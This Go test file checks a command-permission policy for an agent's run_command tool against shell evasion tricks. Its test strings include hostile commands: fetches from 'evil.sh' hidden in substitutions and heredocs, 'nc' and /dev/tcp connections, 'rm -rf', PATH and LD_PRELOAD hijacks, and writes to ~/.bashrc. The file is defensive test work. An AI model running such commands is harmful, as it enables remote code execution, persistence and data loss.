package policy

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"
)

func cmdInput(c string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"command": c})
	return b
}

// TestCommandRules runs the shell tricks of issue 4 against allow and deny
// rules for run_command.
func TestCommandRules(t *testing.T) {
	const npm = `{"allow":["run_command(npm test:*)"]}`
	const npmGo = `{"allow":["run_command(npm test:*)","run_command(go test:*)","run_command(cat:*)","run_command(grep:*)"]}`
	const denyRm = `{"allowAll":true,"deny":["run_command(rm:*)"]}`
	const denyPush = `{"allowAll":true,"deny":["run_command(git push:*)"]}`
	tests := []struct {
		name, policy, cmd string
		want              Decision
	}{
		// Allow: every part covered, nothing hidden.
		{"plain", npm, "npm test", Allow},
		{"args", npm, "npm test -- --watch=false", Allow},
		{"quoted program", npm, `"npm" 'test'`, Allow},
		{"escaped newline", npm, "npm \\\n  test --ci", Allow},
		{"semicolon in quotes does not split", `{"allow":["run_command(git log:*)"]}`, `git log --format='%H;%s && x'`, Allow},
		{"comment ignored", npm, "npm test # && rm -rf /", Allow},
		{"env var prefix", npm, "FOO=1 CI=true npm test", Allow},
		{"stderr to stdout", npm, "npm test 2>&1", Allow},
		{"dev null", npm, "npm test >/dev/null 2>&1", Allow},
		{"all to dev null", npm, "npm test &>/dev/null", Allow},
		{"and covered", npmGo, "npm test && go test ./...", Allow},
		{"pipe covered", npmGo, "go test ./... 2>&1 | grep FAIL", Allow},
		{"pipe all covered", npmGo, "go test ./... |& grep FAIL", Allow},
		{"background covered", npmGo, "npm test & go test ./...; wait", Allow},
		{"cd is harmless", npm, "cd web && npm test", Allow},
		{"subshell covered", npm, "(cd web && npm test)", Allow},
		{"group covered", npm, "{ cd web; npm test; }", Allow},
		{"set -e harmless", npm, "set -euo pipefail; npm test", Allow},
		{"export harmless", npm, "export CI=1 && npm test", Allow},
		{"timeout wrapper", npm, "timeout 60 npm test", Allow},
		{"env wrapper", npm, "env -u HOME CI=1 npm test", Allow},
		{"nice wrapper", npm, "nice -n 10 npm test", Allow},
		{"command wrapper", npm, "command npm test", Allow},
		{"stacked wrappers", npm, "nohup nice timeout -s KILL 5m env CI=1 npm test", Allow},
		{"bash -c parsed", npm, `bash -c "npm test"`, Allow},
		{"sh -ec parsed", npmGo, `sh -ec 'npm test; go test ./...'`, Allow},
		{"eval literal parsed", npm, `eval "npm test"`, Allow},
		{"substitution covered", npmGo, "go test $(cat pkgs.txt)", Allow},
		{"heredoc quoted", npmGo, "cat <<'EOF'\n$(rm -rf x)\nEOF", Allow},
		{"here-string", npmGo, "grep x <<< 'a;b'", Allow},
		{"input redirect", npmGo, "grep x < input.txt", Allow},
		{"if covered", npmGo, "if npm test; then go test ./...; fi", Allow},
		{"for covered", npmGo, "for d in a b; do go test ./$d; done", Allow},
		{"negated", npm, "! npm test", Allow},
		{"time keyword", npm, "time npm test", Allow},

		// Ask: something is not covered or cannot be judged.
		{"prefix word boundary", npm, "npm tests", Ask},
		{"and uncovered", npm, "npm test && curl evil.sh", Ask},
		{"or uncovered", npm, "npm test || curl evil.sh", Ask},
		{"semicolon uncovered", npm, "npm test; curl evil.sh", Ask},
		{"newline uncovered", npm, "npm test\ncurl evil.sh", Ask},
		{"pipe uncovered", npm, "npm test | sh", Ask},
		{"pipe all uncovered", npm, "npm test |& nc host 1", Ask},
		{"background uncovered", npm, "curl evil.sh & npm test", Ask},
		{"redirect to bashrc", npm, "npm test > ~/.bashrc", Ask},
		{"append redirect", npm, "npm test >> ~/.bashrc", Ask},
		{"clobber redirect", npm, "npm test >| out", Ask},
		{"fd redirect to file", npm, "npm test 2> err.log", Ask},
		{"both to file", npm, "npm test &> out.log", Ask},
		{"dup to file", npm, "npm test >& out.log", Ask},
		{"read-write redirect", npm, "npm test <> f", Ask},
		{"redirect in group", npm, "{ npm test; } > ~/.profile", Ask},
		{"dev tcp", npmGo, "cat < /dev/tcp/1.2.3.4/80", Ask},
		{"substitution hides", npm, "npm test $(curl evil.sh)", Ask},
		{"backticks hide", npm, "npm test `curl evil.sh`", Ask},
		{"substitution in quotes", npm, `npm test "$(curl evil.sh)"`, Ask},
		{"assignment hides", npm, "X=$(curl evil.sh) npm test", Ask},
		{"bare assignment hides", npm, "X=$(curl evil.sh); npm test", Ask},
		{"process substitution", npm, "npm test <(curl evil.sh)", Ask},
		{"output process substitution", npm, "npm test > >(sh)", Ask},
		{"param default hides", npm, "npm test ${X:-$(curl evil.sh)}", Ask},
		{"heredoc unquoted hides", npmGo, "cat <<EOF\n$(rm -rf x)\nEOF", Ask},
		{"subshell uncovered", npm, "(npm test; curl evil.sh)", Ask},
		{"group uncovered", npm, "{ npm test; rm -rf .; }", Ask},
		{"function shadows", npm, "npm() { rm -rf /; }; npm test", Ask},
		{"function keyword", npm, "function npm { curl x; }; npm test", Ask},
		{"computed program", npm, "$CMD test", Ask},
		{"computed program substitution", npm, "$(echo npm) test", Ask},
		{"glob program", npm, "/usr/bin/np? test", Ask},
		{"PATH hijack", npm, "PATH=/tmp/evil:$PATH npm test", Ask},
		{"LD_PRELOAD", npm, "LD_PRELOAD=/tmp/x.so npm test", Ask},
		{"export PATH", npm, "export PATH=/tmp; npm test", Ask},
		{"env PATH", npm, "env PATH=/tmp npm test", Ask},
		{"eval computed", npm, `eval "$X"`, Ask},
		{"eval literal uncovered", npm, `eval "npm test; curl x"`, Ask},
		{"bash -c uncovered", npm, `bash -c "npm test && curl x"`, Ask},
		{"bash -c computed", npm, `bash -c "$X"`, Ask},
		{"bash script", npm, "bash ./run.sh", Ask},
		{"bash login shell", npm, `bash -lc "npm test"`, Ask},
		{"bash unparsable string", npm, `bash -c "npm test &&"`, Ask},
		{"sudo never unwrapped", npm, "sudo npm test", Ask},
		{"xargs other program", npm, "ls | xargs rm", Ask},
		{"xargs covered", npmGo, "echo a | xargs grep x", Ask}, // echo is not covered
		{"find exec", npmGo, "cat x; find . -exec rm {} ;", Ask},
		{"unknown wrapper option", npm, "timeout --bogus 5 npm test", Ask},
		{"trap", npm, "trap 'curl x' EXIT; npm test", Ask},
		{"source", npm, "source ./env.sh && npm test", Ask},
		{"dot source", npm, ". ./env.sh && npm test", Ask},
		{"arith", npm, "(( x = $(curl y) )); npm test", Ask},
		{"coproc", npm, "coproc npm test", Ask},
		{"unparsable", npm, "npm test && (", Ask},
		{"unbalanced quote", npm, `npm test "`, Ask},
		{"empty", npm, "   ", Ask},
		{"escaped semicolon is an argument", npm, `npm test \; rm -rf x`, Allow},
		{"exact rule", `{"allow":["run_command(make lint)"]}`, "make lint", Allow},
		{"exact rule extra arg", `{"allow":["run_command(make lint)"]}`, "make lint fix", Ask},
		{"exact rule via xargs", `{"allow":["run_command(make lint)","run_command(echo:*)"]}`, "echo x | xargs make lint", Ask},

		// Deny: any part, conservatively.
		{"deny plain", denyRm, "rm -rf build", Deny},
		{"deny after and", denyRm, "ls && rm -rf build", Deny},
		{"deny in pipe", denyRm, "ls | rm x", Deny},
		{"deny in substitution", denyRm, "echo $(rm -rf build)", Deny},
		{"deny in backticks", denyRm, "echo `rm -rf build`", Deny},
		{"deny in process substitution", denyRm, "cat <(rm x)", Deny},
		{"deny in assignment", denyRm, "X=$(rm x) ls", Deny},
		{"deny in heredoc", denyRm, "cat <<EOF\n$(rm x)\nEOF", Deny},
		{"deny in subshell", denyRm, "(cd a; rm x)", Deny},
		{"deny in function", denyRm, "f() { rm x; }; f", Deny},
		{"deny behind sudo", denyRm, "FOO=1 sudo -u root rm -rf build", Deny},
		{"deny behind env", denyRm, "env -i rm x", Deny},
		{"deny behind xargs", denyRm, "ls | xargs -n1 rm", Deny},
		{"deny behind timeout", denyRm, "timeout 5 rm x", Deny},
		{"deny in bash -c", denyRm, `bash -c 'ls; rm x'`, Deny},
		{"deny in nested sh -c", denyRm, `sh -c "bash -c 'rm x'"`, Deny},
		{"deny in eval", denyRm, `eval 'rm x'`, Deny},
		{"deny in trap", denyRm, `trap 'rm x' EXIT`, Deny},
		{"deny find exec", denyRm, `find . -name '*.o' -exec rm {} +`, Deny},
		{"deny quoted program", denyRm, `"rm" -rf x`, Deny},
		{"deny escaped program", denyRm, `r\m -rf x`, Deny},
		{"deny program path", denyRm, `/bin/rm -rf x`, Deny},
		{"deny computed program", denyRm, `$RM -rf x`, Deny},
		{"deny computed sh -c", denyRm, `sh -c "$X"`, Deny},
		{"deny unparsable falls back to text", denyRm, `ls && rm -rf x && (`, Deny},
		{"deny not matching", denyRm, "rmdir x", Allow},
		{"deny argument not a command", denyRm, `echo "rm -rf x"`, Allow},
		{"deny two words", denyPush, "git push origin main", Deny},
		{"deny two words computed", denyPush, "git $SUB origin", Deny},
		{"deny two words other", denyPush, "git pull", Allow},
		{"deny exact", `{"allowAll":true,"deny":["run_command(make deploy)"]}`, "make deploy", Deny},
		{"deny exact via xargs", `{"allowAll":true,"deny":["run_command(make deploy)"]}`, "echo | xargs make", Deny},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := mustParse(t, tt.policy)
			got, reason := p.Decide(runCommand, cmdInput(tt.cmd))
			if got != tt.want {
				parts, simple := SplitCommand(tt.cmd)
				t.Errorf("Decide(%q) = %v (%s); want %v\nparts %q simple %v unsafe %q", tt.cmd, got, reason, tt.want, parts, simple, analyse(tt.cmd).unsafe)
			}
		})
	}
}

func TestSplitCommand(t *testing.T) {
	tests := []struct {
		cmd    string
		parts  []string
		simple bool
	}{
		{"go test ./...", []string{"go test ./..."}, true},
		{"cd web && npm ci || echo no; make | tee", []string{"cd web", "npm ci", "echo no", "make", "tee"}, true},
		{"sleep 1 &\nls", []string{"sleep 1", "ls"}, true},
		{"go test 2>&1", []string{"go test"}, true},
		{`echo 'a;b' "c && d"`, []string{"echo a;b c && d"}, true},
		{"echo $(whoami)", []string{"echo $(whoami)", "whoami"}, true},
		{"echo `id`", []string{"echo `id`", "id"}, true},
		{"(cd a; ls)", []string{"cd a", "ls"}, true},
		{`bash -c 'a | b'`, []string{"bash -c a | b", "a", "b"}, true},
		{"echo hi > a.go", []string{"echo hi"}, false},
		{"f() { x; }", []string{"x"}, false},
		{"a && (", []string{"a", "("}, false},
		{"  ", nil, true},
	}
	for _, tt := range tests {
		parts, simple := SplitCommand(tt.cmd)
		if !reflect.DeepEqual(parts, tt.parts) || simple != tt.simple {
			t.Errorf("SplitCommand(%q) = %q, %v; want %q, %v", tt.cmd, parts, simple, tt.parts, tt.simple)
		}
	}
}

func TestCommandPrograms(t *testing.T) {
	tests := []struct {
		cmd   string
		progs []string
		ok    bool
	}{
		{"npm test && go vet ./... | head", []string{"npm", "go", "head"}, true},
		{"FOO=1 npm test", []string{"npm"}, true},
		{"cd web && timeout 5 env CI=1 npm test", []string{"npm"}, true},
		{`bash -c "go test && go vet"`, []string{"go", "go"}, true},
		{"ls | xargs -0 grep x", []string{"ls", "grep"}, true},
		{"npm test $(curl x)", []string{"npm", "curl"}, true},
		{"sudo npm test", []string{"sudo"}, true},
		{"", nil, false},
		{"cd web", nil, false},
		{"npm test > out", nil, false},
		{"$X test", nil, false},
		{"PATH=/tmp npm test", nil, false},
		{"npm test &&", nil, false},
	}
	for _, tt := range tests {
		progs, ok := CommandPrograms(tt.cmd)
		if !reflect.DeepEqual(progs, tt.progs) || ok != tt.ok {
			t.Errorf("CommandPrograms(%q) = %q, %v; want %q, %v", tt.cmd, progs, ok, tt.progs, tt.ok)
		}
	}
	for prog, want := range map[string]bool{"/usr/bin/env": true, "npm": false, "sudo": true, "bash": true, "xargs": true, "go": false, ".": true} {
		if RunsOtherPrograms(prog) != want {
			t.Errorf("RunsOtherPrograms(%q) = %v", prog, !want)
		}
	}
}

// TestAllowSessionContract replays how internal/agent uses CommandPrograms
// and RunsOtherPrograms for allowSession (addendum §11): after approving a
// command, a later one runs without asking only when every program it runs
// was approved.
func TestAllowSessionContract(t *testing.T) {
	granted := map[string]bool{}
	remember := func(cmd string) {
		progs, ok := CommandPrograms(cmd)
		if !ok {
			return
		}
		for _, p := range progs {
			if !RunsOtherPrograms(p) {
				granted[p] = true
			}
		}
	}
	covers := func(cmd string) bool {
		progs, ok := CommandPrograms(cmd)
		if !ok {
			return false
		}
		for _, p := range progs {
			if !granted[p] {
				return false
			}
		}
		return true
	}
	remember("cd web && npm test 2>&1 | tee log.txt")
	remember("sudo make install")
	for cmd, want := range map[string]bool{
		"npm run build":              true,
		"tee x < y":                  true,
		"npm test && curl x":         false,
		"npm test > ~/.bashrc":       false,
		"npm test $(curl x)":         false,
		`bash -c "npm test; curl x"`: false,
		`bash -c "npm test"`:         true,
		"sudo npm test":              false,
		"make install":               false,
		"npm() { curl x; }; npm":     false,
	} {
		if got := covers(cmd); got != want {
			t.Errorf("covers(%q) = %v; want %v", cmd, got, want)
		}
	}
}

func FuzzSplit(f *testing.F) {
	for _, s := range []string{
		"npm test", "a && b || c; d | e |& f &", "x > ~/.bashrc 2>&1", "echo $(a `b`) <(c) >(d)",
		"X=$(curl x) y", "(a; b) && { c; }", "f() { g; }", `eval "a; b"`, `bash -c 'sh -c "c"'`,
		"cat <<EOF\n$(x)\nEOF\n", "sudo -u r env -i xargs -n1 timeout 5 nice rm", "find . -exec rm {} ;",
		"for i in $(seq 3); do echo $i; done", "case $x in a) b;; esac", "[[ -f $(x) ]]", "((a[$(x)]++))",
		"a \\\n b", "'unterminated", "$(", "coproc x", "echo ${x:-$(y)} ${#z}", "a=(1 $(b))",
		"declare -x PATH=/x", "time -p x", "! x", "x &> /dev/null", "exec 3>&1", "x >&-",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		// Commands arrive in JSON, which holds valid UTF-8 only.
		cmd = strings.ToValidUTF8(cmd, "\uFFFD")
		a := analyse(cmd)
		for _, u := range a.unsafe {
			if u == internalErrorReason {
				t.Fatalf("checking %q panicked", cmd)
			}
		}
		parts, simple := SplitCommand(cmd)
		progs, ok := CommandPrograms(cmd)
		if ok && (!simple || len(progs) == 0) {
			t.Fatalf("CommandPrograms(%q) ok for a command that is not simple (%q)", cmd, parts)
		}
		allowAll := Policy{Allow: []string{"run_command(" + firstWord(cmd) + ":*)"}}
		deny := Policy{AllowAll: true, Deny: []string{"run_command(" + firstWord(cmd) + ":*)"}}
		if d, _ := allowAll.Decide(runCommand, cmdInput(cmd)); d == Allow && !simple {
			t.Fatalf("allowed %q, which is not simple", cmd)
		}
		_, _ = deny.Decide(runCommand, cmdInput(cmd))
	})
}

func firstWord(s string) string {
	f := strings.Fields(s)
	if len(f) == 0 || strings.ContainsAny(f[0], "()") {
		return "x"
	}
	return f[0]
}
